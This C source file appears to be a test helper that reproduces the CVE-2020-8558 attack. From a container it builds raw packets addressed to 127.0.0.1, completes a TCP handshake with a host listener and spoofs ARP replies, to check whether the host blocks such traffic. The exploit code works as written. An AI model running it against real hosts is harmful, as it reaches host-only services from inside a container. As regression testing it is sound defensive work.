/*
 * The CVE-2020-8558 attack from inside a container (or any network namespace on one of our bridges), for
 * NetworksLoopback.Tests.ps1. A process with CAP_NET_RAW writes IPv4 packets addressed to 127.0.0.1 straight to the
 * bridge's MAC address through a packet socket: its own kernel would route 127.0.0.0/8 to its own lo, so only a
 * raw frame gets such a packet onto the wire. The host accepts it when the bridge has route_localnet=1 and no rule
 * drops it.
 *
 *   probe IFNAME BRIDGE_MAC SRC_IP DST_IP udp PORT PAYLOAD   one datagram; the host listener tells whether it came
 *   probe IFNAME BRIDGE_MAC SRC_IP DST_IP tcp PORT PAYLOAD   SYN, then, on a SYN-ACK, ACK + PAYLOAD: a whole TCP
 *                                                            connection to the host listener, seen through the same
 *                                                            packet socket (the namespace's own kernel drops the
 *                                                            reply from 127.0.0.1 as a martian, and does not answer
 *                                                            the host's ARP request "tell 127.0.0.1" either: the
 *                                                            probe answers it itself, as an attacker would)
 * Prints "sent", "synack" and "delivered" as it goes; exit 0 when done, 3 when no SYN-ACK came within 3 s, 2 on an
 * error. Built by the test with gcc -static, so it runs in a busybox image.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if_arp.h>
#include <netinet/if_ether.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int fail(const char *what)
{
    fprintf(stderr, "probe: %s: %s\n", what, strerror(errno));
    return 2;
}

static uint16_t checksum(const void *data, size_t len, uint32_t sum)
{
    const uint8_t *p = data;
    for (; len > 1; p += 2, len -= 2) sum += (uint32_t)(p[0] << 8 | p[1]);
    if (len) sum += (uint32_t)(p[0] << 8);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* The TCP/UDP checksum's pseudo header sum. */
static uint32_t pseudo(uint32_t src, uint32_t dst, uint8_t proto, size_t len)
{
    src = ntohl(src);
    dst = ntohl(dst);
    return (src >> 16) + (src & 0xffff) + (dst >> 16) + (dst & 0xffff) + proto + (uint32_t)len;
}

struct probe {
    int fd, arp;
    struct sockaddr_ll to;
    uint32_t src, dst;
    uint8_t mac[6];
};

/* Answers an ARP request for our source address (the host asks before it replies from 127.0.0.1). */
static void answer_arp(struct probe *p)
{
    struct ether_arp a;
    struct sockaddr_ll from;
    socklen_t fromlen = sizeof from;
    ssize_t n = recvfrom(p->arp, &a, sizeof a, MSG_DONTWAIT, (struct sockaddr *)&from, &fromlen);
    if (n < (ssize_t)sizeof a || from.sll_pkttype == PACKET_OUTGOING || ntohs(a.ea_hdr.ar_op) != ARPOP_REQUEST) return;
    if (memcmp(a.arp_tpa, &p->src, 4) != 0) return;
    struct ether_arp r = a;
    r.ea_hdr.ar_op = htons(ARPOP_REPLY);
    memcpy(r.arp_tha, a.arp_sha, 6);
    memcpy(r.arp_tpa, a.arp_spa, 4);
    memcpy(r.arp_sha, p->mac, 6);
    memcpy(r.arp_spa, &p->src, 4);
    struct sockaddr_ll to = p->to;
    to.sll_protocol = htons(ETH_P_ARP);
    memcpy(to.sll_addr, a.arp_sha, 6);
    (void)sendto(p->arp, &r, sizeof r, 0, (struct sockaddr *)&to, sizeof to);
}

static int send_ip(struct probe *p, uint8_t proto, const void *l4, size_t l4len)
{
    uint8_t packet[1500];
    struct iphdr *ip = (struct iphdr *)packet;
    if (sizeof *ip + l4len > sizeof packet) return errno = EMSGSIZE, -1;
    memset(ip, 0, sizeof *ip);
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons((uint16_t)(sizeof *ip + l4len));
    ip->id = htons((uint16_t)rand());
    ip->frag_off = htons(IP_DF);
    ip->ttl = 64;
    ip->protocol = proto;
    ip->saddr = p->src;
    ip->daddr = p->dst;
    ip->check = checksum(ip, sizeof *ip, 0);
    memcpy(packet + sizeof *ip, l4, l4len);
    ssize_t n = sendto(p->fd, packet, sizeof *ip + l4len, 0, (struct sockaddr *)&p->to, sizeof p->to);
    return n < 0 ? -1 : 0;
}

static int send_tcp(struct probe *p, uint16_t sport, uint16_t dport, uint32_t seq, uint32_t ack, uint8_t flags,
                    const char *data, size_t len)
{
    uint8_t segment[1400];
    struct tcphdr *t = (struct tcphdr *)segment;
    if (sizeof *t + len > sizeof segment) return errno = EMSGSIZE, -1;
    memset(t, 0, sizeof *t);
    t->source = htons(sport);
    t->dest = htons(dport);
    t->seq = htonl(seq);
    t->ack_seq = htonl(ack);
    t->doff = 5;
    t->th_flags = flags;
    t->window = htons(65535);
    memcpy(segment + sizeof *t, data, len);
    t->check = checksum(segment, sizeof *t + len, pseudo(p->src, p->dst, IPPROTO_TCP, sizeof *t + len));
    return send_ip(p, IPPROTO_TCP, segment, sizeof *t + len);
}

/* Waits up to 3 s for the SYN-ACK of our SYN; stores the host's sequence number. 1 when it came, 0 when not. */
static int await_synack(struct probe *p, uint16_t sport, uint16_t dport, uint32_t seq, uint32_t *their_seq)
{
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        long waited = (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000;
        if (waited >= 3000) return 0;
        struct pollfd pfd[2] = { { .fd = p->fd, .events = POLLIN }, { .fd = p->arp, .events = POLLIN } };
        int r = poll(pfd, 2, (int)(3000 - waited));
        if (r < 0 && errno != EINTR) return -1;
        if (r <= 0) continue;
        if (pfd[1].revents & POLLIN) answer_arp(p);
        if (!(pfd[0].revents & POLLIN)) continue;
        uint8_t buf[2048];
        struct sockaddr_ll from;
        socklen_t fromlen = sizeof from;
        ssize_t n = recvfrom(p->fd, buf, sizeof buf, 0, (struct sockaddr *)&from, &fromlen);
        if (n < 0) {
            if (errno == EINTR) continue;
            return -1;
        }
        if (from.sll_pkttype == PACKET_OUTGOING || (size_t)n < sizeof(struct iphdr)) continue;
        struct iphdr *ip = (struct iphdr *)buf;
        size_t hl = (size_t)ip->ihl * 4;
        if (ip->protocol != IPPROTO_TCP || ip->saddr != p->dst || ip->daddr != p->src || (size_t)n < hl + sizeof(struct tcphdr)) continue;
        struct tcphdr *t = (struct tcphdr *)(buf + hl);
        if (ntohs(t->source) != dport || ntohs(t->dest) != sport) continue;
        if ((t->th_flags & (TH_SYN | TH_ACK)) == (TH_SYN | TH_ACK) && ntohl(t->ack_seq) == seq + 1) {
            *their_seq = ntohl(t->seq);
            return 1;
        }
    }
}

int main(int argc, char **argv)
{
    if (argc != 8) {
        fprintf(stderr, "usage: %s IFNAME BRIDGE_MAC SRC_IP DST_IP udp|tcp PORT PAYLOAD\n", argv[0]);
        return 2;
    }
    struct probe p = { .fd = -1, .arp = -1 };
    unsigned mac[6];
    if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6) {
        fprintf(stderr, "probe: '%s' is not a MAC address\n", argv[2]);
        return 2;
    }
    if (inet_pton(AF_INET, argv[3], &p.src) != 1 || inet_pton(AF_INET, argv[4], &p.dst) != 1) {
        fprintf(stderr, "probe: bad address\n");
        return 2;
    }
    int tcp = strcmp(argv[5], "tcp") == 0;
    uint16_t dport = (uint16_t)atoi(argv[6]);
    const char *payload = argv[7];
    size_t len = strlen(payload);
    srand((unsigned)time(NULL) ^ (unsigned)getpid());

    p.fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    if (p.fd < 0) return fail("socket(AF_PACKET)");
    p.to.sll_family = AF_PACKET;
    p.to.sll_protocol = htons(ETH_P_IP);
    p.to.sll_ifindex = (int)if_nametoindex(argv[1]);
    if (p.to.sll_ifindex == 0) return fail(argv[1]);
    p.to.sll_halen = 6;
    for (int i = 0; i < 6; i++) p.to.sll_addr[i] = (uint8_t)mac[i];
    struct sockaddr_ll here = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = p.to.sll_ifindex };
    if (bind(p.fd, (struct sockaddr *)&here, sizeof here) < 0) return fail("bind");
    p.arp = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ARP));
    if (p.arp < 0) return fail("socket(AF_PACKET, ARP)");
    here.sll_protocol = htons(ETH_P_ARP);
    if (bind(p.arp, (struct sockaddr *)&here, sizeof here) < 0) return fail("bind(ARP)");
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", argv[1]);
    if (ioctl(p.fd, SIOCGIFHWADDR, &ifr) < 0) return fail("SIOCGIFHWADDR");
    memcpy(p.mac, ifr.ifr_hwaddr.sa_data, 6);

    uint16_t sport = (uint16_t)(40000 + rand() % 20000);
    if (!tcp) {
        uint8_t datagram[1400];
        struct udphdr *u = (struct udphdr *)datagram;
        if (sizeof *u + len > sizeof datagram) return errno = EMSGSIZE, fail("payload");
        u->source = htons(sport);
        u->dest = htons(dport);
        u->len = htons((uint16_t)(sizeof *u + len));
        u->check = 0;
        memcpy(datagram + sizeof *u, payload, len);
        u->check = checksum(datagram, sizeof *u + len, pseudo(p.src, p.dst, IPPROTO_UDP, sizeof *u + len));
        if (send_ip(&p, IPPROTO_UDP, datagram, sizeof *u + len) < 0) return fail("sendto");
        puts("sent");
        return 0;
    }

    uint32_t seq = (uint32_t)rand(), their = 0;
    if (send_tcp(&p, sport, dport, seq, 0, TH_SYN, "", 0) < 0) return fail("sendto");
    puts("sent");
    int got = await_synack(&p, sport, dport, seq, &their);
    if (got < 0) return fail("recvfrom");
    if (!got) {
        puts("no-reply");
        return 3;
    }
    puts("synack");
    if (send_tcp(&p, sport, dport, seq + 1, their + 1, TH_ACK | TH_PUSH, payload, len) < 0) return fail("sendto");
    puts("delivered");
    fflush(stdout);
    return 0;
}
